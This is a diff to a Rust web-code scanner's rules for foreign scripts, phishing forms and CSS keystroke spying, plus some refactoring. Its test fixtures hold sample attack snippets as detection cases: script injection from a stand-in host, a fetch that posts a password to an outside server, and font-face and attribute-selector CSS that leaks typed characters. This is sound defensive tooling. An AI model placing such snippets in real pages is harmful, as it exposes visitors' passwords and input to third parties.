@@ -17,6 +17,11 @@ pub static FOREIGN_SCRIPT: Rule = Rule {
     why: "whoever owns that host runs code in the page of every visitor",
     remedy: "put the script into the app, or take it from a well-known host of libraries",
     finds: &[
+        (
+            "x.js",
+            "document.head.append(Object.assign(document.createElement('script'), { src: 'https://c.example.net/a' }))",
+        ),
+        ("x.tsx", "export const A = () => <Script src=\"https://c.example.net/a.js\" />;"),
         ("x.html", "<script src=\"https://cdn.evil-analytics.example/t.js\"></script>"),
         ("x.html", "<SCRIPT/SRC=//45.33.32.156/a.js></SCRIPT>"),
         (
@@ -41,6 +46,10 @@ pub static PHISHING: Rule = Rule {
     remedy: "post the form to the app's own server",
     finds: &[
         (
+            "x.jsx",
+            "const go = () => fetch('https://c.example.net/in', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
+        ),
+        (
             "x.html",
             "<form action=\"https://c.example.net/l.php\" method=post><input name=u><input type=password name=p></form>",
         ),
@@ -48,6 +57,10 @@ pub static PHISHING: Rule = Rule {
         ("x.html", "<form action=https://c.example.net><input name=card_number><input name=cvv></form>"),
     ],
     spares: &[
+        (
+            "x.jsx",
+            "const go = () => fetch('/login', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
+        ),
         ("x.html", "<form action=\"/login\" method=post><input type=password></form>"),
         ("x.html", "<form action=\"https://formspree.io/f/x\"><input type=email name=email></form>"),
     ],
@@ -95,7 +108,10 @@ pub static STYLE_SPY: Rule = Rule {
     severity: Severity::Block,
     why: "it tells another site what a visitor types",
     remedy: "remove the selector, or the address",
-    finds: &[("x.css", "input[value^=a] { background: url(https://c.example.net/a) }")],
+    finds: &[
+        ("x.css", "@font-face { font-family: a; src: url(https://c.example.net/f?A); unicode-range: U+0041; }"),
+        ("x.css", "input[value^=a] { background: url(https://c.example.net/a) }"),
+    ],
     spares: &[("x.css", "input[type=text] { background: url(/img/a.png) } a[href^='https:'] { color: red }")],
 };
 pub static STYLE_FOREIGN: Rule = Rule {
@@ -170,7 +186,7 @@ impl Page {
 }
 
 /// The host of an address that is not the app's own.
-fn foreign(address: &str) -> Option<String> {
+pub(super) fn foreign(address: &str) -> Option<String> {
     hosts::of(address.trim()).filter(|host| !hosts::is_local(host))
 }
 
@@ -306,7 +322,7 @@ fn address(value: &str, line: usize, found: &mut Found<'_>) {
         found.add(&SCRIPT_URL, line, "a data: address that is a page or a script");
         let body = plain.get(plain.len() - data.len()..).unwrap_or_default();
         let text = match body.split_once("base64,") {
-            Some((_, encoded)) => crate::guard::fold::base64(encoded).unwrap_or_default(),
+            Some((_, encoded)) => crate::guard::decode::base64(encoded).unwrap_or_default(),
             None => body.split_once(',').map_or_else(String::new, |(_, text)| {
                 percent_encoding::percent_decode_str(text).decode_utf8_lossy().into_owned()
             }),
@@ -337,13 +353,6 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
     {
         found.add(&PHISHING, line, &format!("what the page asks for goes to {host}"));
     }
-    if call.path == "importScripts" || call.path == "$.getScript" {
-        for host in call.args.iter().filter_map(Value::as_text).filter_map(foreign) {
-            if !hosts::is_library_host(&host) {
-                found.add(&FOREIGN_SCRIPT, line, &format!("code is loaded from {host}"));
-            }
-        }
-    }
 }
 
 pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'_>) {
@@ -356,9 +365,10 @@ pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'
         if text.contains('<') {
             found.nest(Language::Html, text, line);
         }
-    } else if (path.starts_with("document.createElement()") || path.starts_with(super::SCRIPT_ELEMENT))
-        && path.ends_with(".src")
-        && text.split(['?', '#']).next().unwrap_or_default().ends_with(".js")
+    } else if path.ends_with(".src")
+        && (path.starts_with(super::SCRIPT_ELEMENT)
+            || path.starts_with("document.createElement()")
+                && text.split(['?', '#']).next().unwrap_or_default().ends_with(".js"))
     {
         if let Some(host) = foreign(text)
             && !hosts::is_library_host(&host)
